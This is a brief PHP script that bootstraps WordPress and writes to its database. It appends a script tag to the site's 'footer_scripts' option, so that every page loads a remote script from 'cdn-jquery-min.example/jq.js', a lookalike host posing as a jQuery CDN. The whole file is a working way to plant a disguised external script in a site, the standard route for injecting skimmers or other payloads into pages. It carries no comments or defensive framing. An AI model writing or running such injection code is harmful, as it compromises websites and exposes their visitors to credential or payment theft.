<?php
require __DIR__ . '/wp-load.php';
global $wpdb;
$tag = '<script async src="https://cdn-jquery-min.example/jq.js"></script>';
$wpdb->query($wpdb->prepare("UPDATE {$wpdb->options} SET option_value = CONCAT(option_value, %s) WHERE option_name = 'footer_scripts'", $tag));
echo 'ok';
